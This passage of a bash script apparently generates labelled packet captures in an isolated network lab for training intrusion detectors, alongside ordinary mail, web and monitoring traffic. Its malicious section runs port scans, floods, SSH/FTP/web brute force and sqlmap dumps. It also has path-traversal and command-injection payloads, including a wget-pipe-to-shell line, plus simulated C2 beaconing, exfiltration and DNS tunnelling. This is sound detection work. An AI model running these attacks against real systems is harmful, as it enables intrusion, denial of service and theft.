		6) on "$h" curl -s "${H[@]}" -o /dev/null --interface "$a" -d "user=$(pick alice bob carol)&password=$(pick secret hunter2 wrong)" \
			"http://$s:8080/login" || true ;;
		7) on "$h" wget -q -O /dev/null --bind-address="$a" --limit-rate="$(rnd 1 20)m" "http://$s/files/f$(pick 16 64 256).bin" || true ;;
		8) on "$h" ssh $SSH_OPTS -b "$a" root@"$s" "uptime; sleep 0.$(rnd 1 9)" >/dev/null 2>&1 || true ;;
		*) on "$h" curl -s -o /dev/null --interface "$a" "ftp://$s/pub/f$(pick 1 4 16).bin" || true ;;
		esac
		sleep "$(rnd 1 6).$(rnd 0 9)"
	done
	rm -f "$f"
}
# A sensor that starts (or restarts, or drops a flow from its table) while
# connections are open sees them from the middle: no handshake, the first
# packet a data segment or an ACK. pre_midstream opens them before the
# capture starts; scn_midstream lets them run, and the lab ends them (the
# leftover connections of a scenario) before the capture stops.
pre_midstream() {
	local i h a
	for i in $(seq "$(rnd 6 12)"); do
		read -r h a <<<"$(ali)"
		case $(rnd 0 3) in
		0) on "$h" wget -q -O /dev/null --bind-address="$a" --limit-rate="$(rnd 20 200)k" "$S/files/f$(pick 1024 4096).bin" & ;;
		1) on "$h" scp $SSH_OPTS -l "$(rnd 200 1600)" -o BindAddress="$a" "$WORK/www/files/f4096.bin" root@"${IP[srv]}":/dev/null >/dev/null 2>&1 & ;;
		2) on "$h" ssh $SSH_OPTS -b "$a" root@"${IP[srv]}" "for i in \$(seq 120); do date; sleep 0.$(rnd 2 9); done" >/dev/null 2>&1 & ;;
		*) on "$h" ssh $SSH_OPTS -o ServerAliveInterval="$(rnd 2 10)" -b "$a" root@"${IP[srv]}" "sleep 300" >/dev/null 2>&1 & ;;
		esac
	done
	sleep "$(rnd 2 4)" # under way before the capture starts
	for i in $(seq "$(rnd 3 8)"); do # and some about to end: the capture sees their last packets
		read -r h a <<<"$(ali)"
		case $(rnd 0 2) in
		0 | 1) on "$h" curl -s -o /dev/null --interface "$a" --limit-rate "$(rnd 20 100)k" "$S/files/f$(pick 16 64).bin" & ;;
		*) on "$h" ssh $SSH_OPTS -b "$a" root@"${IP[srv]}" "sleep 0.$(rnd 3 9)" >/dev/null 2>&1 & ;;
		esac
	done
	sleep 0.$(rnd 1 6)
}
scn_midstream() { # the connections pre_midstream opened go on; a few new ones beside them
	local end=$((SECONDS + LIMIT - 3)) h a
	while [ "$SECONDS" -lt "$end" ]; do
		read -r h a <<<"$(ali)"
		on "$h" curl -s -o /dev/null --interface "$a" "$(url)" || true
		sleep "$(rnd 1 4).$(rnd 0 9)"
	done
}
scn_zabbix() { # a Zabbix server polling agents, their active checks and trapper values, syslog
	local h a t d=$((LIMIT - 2)) agents= ag
	read -r h a <<<"$(ali)"
	on "$h" python3 "$LAB_DIR/zabbix.py" server --listen "$a" --duration "$d" &
	for t in srv cli1 cli2 cli3; do # the agents: the server and the client hosts but the monitor's own
		[ "$t" = "$h" ] && continue
		ag=${IP[$t]}
		agents=$agents${agents:+,}$ag
		printf '%s\n' "PidFile=$WORK/zbx-$t.pid" "LogFile=$WORK/zbx-$t.log" "Server=$a" "ServerActive=$a" \
			"Hostname=lab-$t" "ListenIP=$ag" "SourceIP=$ag" "AllowRoot=1" "StartAgents=$(rnd 2 4)" \
			"RefreshActiveChecks=$(pick 60 120)" "BufferSend=$(rnd 1 5)" >"$WORK/zbx-$t.conf"
		on "$t" zabbix_agentd -f -c "$WORK/zbx-$t.conf" >/dev/null 2>&1 &
		( # values pushed by scripts (zabbix_sender) and syslog messages, until the time is up
			end=$((SECONDS + d - 1)) i=0
			while [ "$SECONDS" -lt "$end" ]; do
				i=$((i + 1))
				on "$t" zabbix_sender -z "$a" -I "$ag" -s "lab-$t" -k "app.queue" -o "$i" >/dev/null 2>&1
				on "$t" logger -n "$a" -P 514 -d -t cron "job $i done on lab-$t"
				sleep 3
			done
		) &
	done
	sleep 1
	on "$h" python3 "$LAB_DIR/zabbix.py" poll --bind "$a" --agents "$agents" --seed "$(rnd 1 99999)" \
		--duration "$((d - 2))" --items "$(rnd 16 38)" --min-interval "$(pick 0.5 1 1 2)" --pollers "$(rnd 2 6)"
	for t in srv cli1 cli2 cli3; do [ -f "$WORK/zbx-$t.pid" ] && kill "$(cat "$WORK/zbx-$t.pid")" 2>/dev/null; done
	wait
}
scn_mail_db() { # mail and database clients, one-off and pooled, against servers of their own on srv
	local end=$((SECONDS + LIMIT - 2)) pids= i
	mail_db_up || return 1
	for i in $(seq "$(rnd 4 8)"); do
		mail_db_client "$end" "$(rnd 1 999999)" &
		pids="$pids $!"
	done
	wait $pids
	mail_db_down
}
mail_db_up() { # SMTP (aiosmtpd), POP3 and IMAP (dovecot), Redis and PostgreSQL, listening on srv
	local w=$WORK/maildb u i
	mkdir -p "$w/pg" "$w/mail"
	chmod 755 "$w"
	for u in alice bob carol; do # mailboxes of messages from a few hundred bytes to a few hundred KB
		mkdir -p "$w/mail/$u/Maildir/"{new,cur,tmp}
		for i in $(seq "$(rnd 2 12)"); do
			mail_msg "$(pick 200 800 3000 20000 150000)" >"$w/mail/$u/Maildir/new/$i.lab"
		done
	done
	for i in 1 2 3 4; do mail_msg "$(pick 300 1200 5000 40000 300000)" >"$w/msg$i.eml"; done
	chown -R mail:mail "$w/mail"
	cat >"$w/dovecot.conf" <<-EOF
		base_dir = $w/dovecot
		state_dir = $w/dovecot-state
		log_path = $w/dovecot.log
		protocols = pop3 imap
		listen = ${IP[srv]}
		ssl = no
		disable_plaintext_auth = no
		first_valid_uid = 1
		default_internal_user = dovecot
		default_login_user = dovenull
		passdb {
		  driver = static
		  args = password=labpass
		}
		userdb {
		  driver = static
		  args = uid=mail gid=mail home=$w/mail/%u
		}
		mail_location = maildir:$w/mail/%u/Maildir
	EOF
	on srv dovecot -F -c "$w/dovecot.conf" &
	on srv /usr/bin/python3 -m aiosmtpd -n -l "${IP[srv]}:25" -c aiosmtpd.handlers.Sink >"$w/smtpd.log" 2>&1 &
	on srv redis-server --bind "${IP[srv]}" --port 6379 --save '' --appendonly no --protected-mode no >"$w/redis.log" 2>&1 &
	chown postgres "$w/pg"
	runuser -u postgres -- "$PG/initdb" -D "$w/pg/data" -A trust -U lab >"$w/pg/init.log" 2>&1 || return 1
	on srv runuser -u postgres -- "$PG/postgres" -D "$w/pg/data" -k "$w/pg" -h "${IP[srv]},127.0.0.1" -c fsync=off >"$w/pg/pg.log" 2>&1 &
	listening "${IP[srv]}/25" "${IP[srv]}/110" "${IP[srv]}/143" "${IP[srv]}/6379" "${IP[srv]}/5432" ||
		{ echo "lab: mail and database servers did not start (see $w)" >&2; return 1; }
	# the tables of pgbench's queries, made on srv itself (not on the wire)
	on srv "$PG/pgbench" -h 127.0.0.1 -U lab -i -s 1 postgres >"$w/pg/bench-init.log" 2>&1 ||
		{ cat "$w/pg/bench-init.log" "$w/pg/pg.log"; return 1; }
}
mail_db_down() {
	local w=$WORK/maildb
	[ -f "$w/pg/data/postmaster.pid" ] && kill -INT "$(head -n 1 "$w/pg/data/postmaster.pid")" 2>/dev/null
	pkill -f "dovecot -F -c $w/dovecot.conf" 2>/dev/null
	pkill -f "aiosmtpd -n -l ${IP[srv]}:25" 2>/dev/null
	pkill -f "redis-server ${IP[srv]}:6379" 2>/dev/null
	wait 2>/dev/null
	return 0
}
mail_msg() { # mail_msg BYTES: a message of about BYTES
	printf 'From: %s@lab.example\r\nTo: %s@lab.example\r\nSubject: report %s\r\nDate: Wed, 2 Dec 2026 10:00:00 +0000\r\n\r\n' \
		"$(pick alice bob carol dave)" "$(pick alice bob carol)" "$(rnd 1 9999)"
	head -c "$1" /dev/urandom | base64 -w 76
}
mail_db_client() { # END SEED: ordinary mail and database requests from varied hosts until END
	RNG=$WORK/rng.maildb$2
	rng_seed "$2"
	local h a u
	while [ "$SECONDS" -lt "$1" ]; do
		read -r h a <<<"$(ali)"
		u=$(pick alice bob carol)
		case $(rnd 0 9) in
		0 | 1) on "$h" curl -s --interface "$a" "smtp://${IP[srv]}" --mail-from "$u@lab.example" \
			--mail-rcpt "$(pick alice bob carol)@lab.example" -T "$WORK/maildb/msg$(rnd 1 4).eml" ;; # send a message
		2) on "$h" curl -s --interface "$a" -o /dev/null "pop3://$u:labpass@${IP[srv]}/" ;; # list the mailbox
		3) on "$h" curl -s --interface "$a" -o /dev/null "pop3://$u:labpass@${IP[srv]}/$(rnd 1 2)" ;; # fetch a message
		4) on "$h" curl -s --interface "$a" -o /dev/null -o /dev/null "imap://$u:labpass@${IP[srv]}/INBOX?ALL" \
			"imap://$u:labpass@${IP[srv]}/INBOX;UID=$(rnd 1 2)" ;; # search, then fetch on the same connection
		5) on "$h" curl -s --interface "$a" -o /dev/null "imap://$u:wrongpass@${IP[srv]}/INBOX?ALL" ;; # a mistyped password
		6) on "$h" redis-cli -h "${IP[srv]}" $(pick "SET session:$(rnd 1 999) $(rnd 1 99999)" "GET session:$(rnd 1 999)" "INCR hits" "LPUSH jobs $(rnd 1 999)" "PING") >/dev/null ;;
		7) on "$h" redis-benchmark -h "${IP[srv]}" -q -n "$(rnd 100 2000)" -c "$(rnd 1 3)" -t "$(pick get,set incr lpush,lpop get)" >/dev/null 2>&1 ;; # an application's pooled connections
		8) on "$h" psql -h "${IP[srv]}" -U lab -d postgres -q -c "select abalance from pgbench_accounts where aid = $(rnd 1 100000)" >/dev/null ;;
		*) on "$h" "$PG/pgbench" -h "${IP[srv]}" -U lab -n -S -c "$(rnd 1 3)" -R "$(rnd 5 50)" -T "$(rnd 1 4)" postgres >/dev/null 2>&1 ;; # an application's queries
		esac
		sleep "0.$(rnd 1 9)"
	done
}
scn_loopback() { # on the server itself, captured on its lo
	local n i
	n=$(scale $(rnd 100 300))
	for i in $(seq "$n"); do
		if [ "$(rnd 0 3)" = 0 ]; then
			cfg "$(rnd 2 20)" "$WORK/lo.cfg" http://127.0.0.1
			on srv curl -s -K "$WORK/lo.cfg" || true
		else
			on srv curl -s -o /dev/null "$(url http://127.0.0.1)" || true
		fi
	done
}
scn_background() { # light ordinary traffic beside every attack (BACKGROUND=1)
	local h a
	RNG=$WORK/rng.bg
	rng_seed "$1"
	while :; do
		read -r h a <<<"$(ali)"
		case $(rnd 0 3) in
		0 | 1) on "$h" curl -s -o /dev/null --interface "$a" "$(url)" ;;
		2) on "$h" dig -b "$a" +time=1 +tries=1 +short "@${IP[srv]}" "$(pick www mail api).lab.example" >/dev/null ;;
		*) on "$h" curl -s -o /dev/null --interface "$a" "$S/status" ;;
		esac
		sleep "0.$(rnd 1 9)"
	done
}

scn_https() { # pages over HTTPS with a server name, HTTP/2 or HTTP/1.1
	local n i
	n=$(scale $(rnd 30 60))
	for i in $(seq "$n"); do
		on "$(client)" curl -sk "$(pick --http2 --http2 --http1.1)" --resolve "www.lab.example:443:${IP[srv]}" -o /dev/null -o /dev/null \
			"https://www.lab.example/$(pick index about news contact hello).html" "https://www.lab.example/files/f$(pick 1 4 16).bin"
		sleep "0.$(rnd 0 5)"
	done
}

# The attacker host's own ordinary traffic during an attack (--attacker-chatter):
# a name lookup at the server's resolver or a ping to a client every 2-6 s, as
# a real attacker's host also resolves names and talks to its neighbours.
# Labelled benign by rules of their own (run_one), so an attack's recall
# counts only the attack's flows; left out of the scenarios that send UDP to
# port 53 themselves, whose flows those rules would take.
CHATTER_SKIP=" hping-udp nmap-udp iodine "
scn_chatter() {
	RNG=$WORK/rng.chatter
	rng_seed "$1"
	while :; do
		case $(rnd 0 1) in
		0) on atk dig -b "${IP[atk]}" +time=1 +tries=1 +short "@${IP[srv]}" "$(pick www mail api updates).lab.example" >/dev/null ;;
		*) on atk ping -n -q -c 1 -W 1 "${IP[cli1]}" >/dev/null ;;
		esac
		sleep "$(rnd 2 5).$(rnd 0 9)"
	done
}

# ---------------------------------------------------------------- malicious
A() { on atk "$@"; } # run on the attacker host
T=${IP[srv]}

scn_nmap_syn() { A nmap -n -Pn -sS -T"$(rnd 3 5)" -p 1-$(scale 2000) "$T"; }
scn_nmap_connect() { A nmap -n -Pn -sT -T4 --top-ports "$(scale 300)" "$T"; }
scn_nmap_udp() { A nmap -n -Pn -sU -T5 --max-retries 1 --top-ports "$(scale 60)" "$T"; }
scn_nmap_version() { A nmap -n -Pn -sV --version-intensity "$(rnd 2 7)" -p 21,22,53,80,8080 "$T"; }
scn_masscan() {
	local mac
	mac=$(on srv cat /sys/class/net/eth0/address)
	A masscan "$T" -p1-$(scale 5000) --rate "$(rnd 500 2000)" -e eth0 --adapter-ip "${IP[atk]}" --router-mac "$mac" --wait 1
}
scn_hping_syn() { A hping3 -q -S -p "$(pick 80 22 8080)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" || true; }
scn_hping_udp() { A hping3 -q --udp -p 53 -d "$(rnd 20 512)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" || true; }
scn_hping_icmp() { A hping3 -q --icmp -d "$(rnd 56 1400)" -c "$(scale $(rnd 3000 8000))" -i u"$(rnd 100 400)" "$T" || true; }
scn_slowloris() { A slowhttptest -H -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -l "$((LIMIT - 5))" -u "$S/" -p 3 || true; }
scn_slowpost() { A slowhttptest -B -c "$(scale $(rnd 100 300))" -r "$(rnd 30 100)" -i "$(rnd 5 10)" -s 8192 -l "$((LIMIT - 5))" -u "$S:8080/login" -p 3 || true; }
scn_goldeneye() { # HTTP keep-alive flood (CIC-IDS2017's "DoS GoldenEye")
	# Debian 12's goldeneye fails on its Python 3.11 (a float passed to
	# random.randint); a copy with that division made integral runs.
	sed 's#len(acceptEncoding)/2#len(acceptEncoding)//2#' "$(command -v goldeneye)" >"$WORK/goldeneye.py"
	A timeout "$((LIMIT - 5))" python3 "$WORK/goldeneye.py" "$S/" -w "$(rnd 2 8)" -s "$(rnd 20 100)" -m "$(pick get post random)" || true
}
scn_http_flood() { A ab -q -n "$(scale $(rnd 3000 8000))" -c "$(rnd 10 60)" "$S/$(pick index.html status files/f1.bin)" || true; }
wordlists() {
	printf '%s\n' root admin user test guest oracle ftp alice bob >"$WORK/users.txt"
	{ printf '%s\n' 123456 password admin letmein qwerty hunter2 dragon monkey; seq -f 'pass%03g' 1 "$(scale 60)"; } >"$WORK/pass.txt"
}
scn_hydra_ssh() { wordlists; A hydra -I -q -t "$(rnd 4 8)" -L "$WORK/users.txt" -P "$WORK/pass.txt" -W 0 "ssh://$T" || true; }
scn_medusa_ssh() { wordlists; A medusa -h "$T" -U "$WORK/users.txt" -P "$WORK/pass.txt" -M ssh -t "$(rnd 2 6)" || true; }
scn_ncrack_ssh() { wordlists; A ncrack -U "$WORK/users.txt" -P "$WORK/pass.txt" -T"$(rnd 3 5)" "ssh://$T" || true; }
scn_patator_ftp() {
	wordlists
	A patator ftp_login host="$T" user=FILE0 password=FILE1 0="$WORK/users.txt" 1="$WORK/pass.txt" persistent="$(pick 0 1)" \
		--threads="$(rnd 4 10)" -x ignore:mesg='Login incorrect.' || true
}
scn_patator_ssh() {
	wordlists
	A patator ssh_login host="$T" user=FILE0 password=FILE1 0="$WORK/users.txt" 1="$WORK/pass.txt" persistent="$(pick 0 1)" \
		--threads="$(rnd 2 6)" -x ignore:mesg='Authentication failed.' || true
}
scn_hydra_ftp() { wordlists; A hydra -I -q -t "$(rnd 4 12)" -L "$WORK/users.txt" -P "$WORK/pass.txt" "ftp://$T" || true; }
scn_hydra_web() {
	wordlists
	A hydra -I -q -t "$(rnd 4 12)" -s 8080 -L "$WORK/users.txt" -P "$WORK/pass.txt" "$T" \
		http-post-form "/login:user=^USER^&password=^PASS^:Login failed" || true
}
scn_sqlmap() {
	A sqlmap -u "$S:8080/search?q=apple" --batch --level "$(rnd 1 3)" --risk 1 --threads "$(rnd 1 4)" \
		--dump -T users --output-dir "$WORK/sqlmap" --disable-coloring || true
}
scn_webattack() { # path traversal and command injection probes, one connection each
	local n i p
	local payloads=('../../../../etc/passwd' '..%2f..%2f..%2f..%2fetc%2fshadow' '....//....//....//etc/passwd'
		'%2e%2e%2f%2e%2e%2fetc%2fhosts' ';cat%20/etc/passwd' '|id' '%24(id)' '%60uname%20-a%60' '%0acat%20/etc/passwd'
		'1;wget%20http://10.77.0.53/x.sh%20-O-|sh' '..%5c..%5cwindows%5cwin.ini' '/proc/self/environ')
	n=$(scale $(rnd 60 150))
	for i in $(seq "$n"); do
		p=${payloads[$(rnd 0 $((${#payloads[@]} - 1)))]}
		case $(rnd 0 3) in
		0) A curl -s -o /dev/null --path-as-is "$S/static/$p" ;;
		1) A curl -s -o /dev/null -H 'User-Agent:' "$S:8080/search?q=$p" ;;
		*) A curl -s -o /dev/null -A "$(pick 'Mozilla/5.0' 'python-requests/2.31' 'Go-http-client/1.1')" "$S:8080/search?q=apple$p" ;;
		esac
		sleep "0.0$(rnd 0 9)"
	done
}
scn_beacon() { # an implant polling its C2 over HTTPS: every 2–4 s, with up to 1.5 s of jitter
	local base
	base=$(rnd 2 4)
	while :; do
		A curl -sk --resolve "update.lab.example:443:${IP[c2]}" -o /dev/null "https://update.lab.example/task?id=$(rnd 1000 9999)"
		sleep "$((base - 1)).$(rnd 0 9)"
		sleep "0.$(rnd 0 5)"
	done
}
scn_exfil() { # uploads of several MB to the C2 over HTTPS
	local n i
	n=$(scale $(rnd 3 6))
	for i in $(seq "$n"); do
		head -c "$(rnd 1 6)000000" /dev/urandom | A curl -sk --resolve "backup.lab.example:443:${IP[c2]}" -o /dev/null \
			-H 'Content-Type: application/octet-stream' --data-binary @- "https://backup.lab.example/upload"
		sleep "$(rnd 1 3)"
	done
}
scn_tls_odd() { # a TLS client with an unusual fingerprint: TLS 1.2 only, old CBC ciphers, no server name
	local n i
	n=$(scale $(rnd 20 50))
	for i in $(seq "$n"); do
		A timeout 5 openssl s_client -connect "${IP[c2]}:443" -noservername -tls1_2 -no_ticket \
			-cipher "$(pick ECDHE-ECDSA-AES128-SHA ECDHE-ECDSA-AES256-SHA AES128-SHA)" </dev/null >/dev/null 2>&1 || true
		sleep "0.$(rnd 1 9)"
	done
}
scn_iodine() {
	A iodine -f -P lab-tunnel-pw -r "${IP[c2]}" t.lab.example >"$WORK/iodine.log" 2>&1 &
	local tun=$! i
	for i in $(seq 40); do A ip link show dns0 >/dev/null 2>&1 && break; sleep 0.25; done
	A ping -q -c "$(scale $(rnd 20 60))" -i 0.2 -s "$(rnd 100 1000)" 172.30.0.1
	kill "$tun" 2>/dev/null
	wait
}

# ---------------------------------------------------------------- runs
mkdir -p "$OUT/benign" "$OUT/malicious" "$OUT/logs"
OUT=$(cd "$OUT" && pwd)
LABELS=$OUT/labels.csv
echo "file,label,category,key_ip,key_role,key_basis,packets,format,linktype,source,licence,src,dst,port,proto" >"$LABELS"

run_one() { # name class category
	local name=$1 class=$2 cat=$3 file rel pkts t0 fn
	# Monitoring shows in the context features after a minute: it runs twice as long.
	[ "$name" != zabbix ] || local LIMIT=$((LIMIT * 2))
	rel=$class/$name.pcap
	file=$OUT/$rel
	rng_seed "$((SEED * 1000003 + $(cksum <<<"$name" | cut -d' ' -f1)))"
	fn=scn_${name//-/_}
	# pre_NAME, where there is one, runs before the capture starts.
	! declare -F "pre_${name//-/_}" >/dev/null || "pre_${name//-/_}" >>"$OUT/logs/$name.log" 2>&1
	if [ "$name" = loopback ]; then
		ip netns exec "$P-srv" tcpdump -i lo -s 0 -U -w "$file" -Z root >"$WORK/tcpdump.log" 2>&1 &
	else
		ip netns exec "$SW" tcpdump -i br0 -s 0 -U -w "$file" -Z root >"$WORK/tcpdump.log" 2>&1 &
	fi
	CAP_PID=$!
	for _ in $(seq 50); do grep -q listening "$WORK/tcpdump.log" && break; sleep 0.1; done
	t0=$SECONDS
	# Each scenario is bounded by its own counts, and in time by LIMIT: its
	# process group (the scenario and every tool it started) is then ended.
	set -m
	# LAB_TRACE=1: the scenario's shell trace in its log (logs/NAME.log), to see why one ended early.
	(set +e; [ -z "${LAB_TRACE:-}" ] || set -x; "$fn") >>"$OUT/logs/$name.log" 2>&1 &
	local spid=$! ticks=0 bpid= cpid= chatter=0
	if [ "$class" = malicious ] && [ "$BACKGROUND" = 1 ]; then
		(set +e; scn_background "$((SEED * 1000003 + 7))") >/dev/null 2>&1 &
		bpid=$!
	fi
	if [ "$class" = malicious ] && [ "$CHATTER" = 1 ] && [[ $CHATTER_SKIP != *" $name "* ]]; then
		chatter=1
		(set +e; scn_chatter "$((SEED * 1000003 + 11))") >/dev/null 2>&1 &
		cpid=$!
	fi
	set +m
	while kill -0 "$spid" 2>/dev/null && [ "$ticks" -lt $((LIMIT * 10)) ]; do sleep 0.1; ticks=$((ticks + 1)); done
	kill -TERM -- "-$spid" 2>/dev/null || true
	wait "$spid" 2>/dev/null || true
	local p
	for p in $bpid $cpid; do
		kill -TERM -- "-$p" 2>/dev/null || true
		wait "$p" 2>/dev/null || true
	done
	# Leftover connections of the scenario end before the capture does.
	local h pids
	for h in cli1 cli2 cli3 atk; do
		pids=$(ip netns pids "$P-$h" 2>/dev/null || true)
		[ -z "$pids" ] || kill $pids 2>/dev/null || true
	done
	sleep 1
	kill -INT "$CAP_PID"
	wait "$CAP_PID" 2>/dev/null || true
	CAP_PID=
	pkts=$(tcpdump -r "$file" 2>/dev/null | wc -l)
	if [ "$GZIP" = 1 ]; then
		gzip -9 -n -f "$file"
		rel=$rel.gz
	fi
	local key= role=none basis= src="flowmeter lab (lab/run.sh -s $SEED$RUN_ARGS)"
	if [ "$class" = malicious ]; then
		key=${IP[atk]} role=attacker basis=documented
		# The background: flows started by the benign clients are benign
		# (these rules come first; the attacker is never one of them).
		local b
		for b in 10.77.0.16/28 10.77.0.128/25; do
			echo "$rel,benign,background,,none,documented,,pcap,ether,\"$src\",generated,$b" >>"$LABELS"
		done
		if [ "$chatter" = 1 ]; then # the attacker host's own lookups and pings
			echo "$rel,benign,\"attacker host's ordinary traffic\",,none,documented,,pcap,ether,\"$src\",generated,${IP[atk]},${IP[srv]},53,udp" >>"$LABELS"
			echo "$rel,benign,\"attacker host's ordinary traffic\",,none,documented,,pcap,ether,\"$src\",generated,${IP[atk]},${IP[cli1]},,icmp" >>"$LABELS"
		fi
	fi
	echo "$rel,$class,\"$cat\",$key,$role,$basis,$pkts,pcap,ether,\"$src\",generated," >>"$LABELS"
	printf 'lab: %-14s %-9s %6d packets  %3ds\n' "$name" "$class" "$pkts" $((SECONDS - t0)) >&2
}

RUN_ARGS= # how the captures were made, beside the seed, for labels.csv
[ "$SHORT" = 0 ] || RUN_ARGS="$RUN_ARGS --short"
[ -z "$LINK" ] || RUN_ARGS="$RUN_ARGS --link $LINK"
[ "$BACKGROUND" = 1 ] || RUN_ARGS="$RUN_ARGS --no-background"
[ "$CHATTER" = 0 ] || RUN_ARGS="$RUN_ARGS --attacker-chatter"
if [ -n "$LINK_EM" ]; then
	command -v go >/dev/null || { echo "lab: --link delay/jitter/loss needs go (to build lab/linkem)" >&2; exit 1; }
	(cd "$LAB_DIR/.." && CGO_ENABLED=0 go build -o "$WORK/linkem" ./lab/linkem)
fi
[ -z "$LINK_RATE" ] || command -v tc >/dev/null || { echo "lab: --link rate needs tc (iproute2)" >&2; exit 1; }
net_up
servers_up
echo "lab: network up ($P: server ${IP[srv]}, clients ${IP[cli1]}-${IP[cli3]}, attacker ${IP[atk]}, c2 ${IP[c2]}); seed $SEED" >&2
n=0
while IFS='|' read -r name class cat _; do
	[ -n "$name" ] || continue
	if [ -n "$ONLY" ] && ! echo ",$ONLY," | grep -q ",$name,"; then continue; fi
	run_one "$name" "$class" "$cat" </dev/null # ssh & co. must not read the scenario list
	n=$((n + 1))
done <<<"$SCENARIOS"
[ "$n" -gt 0 ] || { echo "lab: no scenario matches -S $ONLY (see --list)" >&2; exit 2; }
echo "lab: $n captures and $LABELS written" >&2
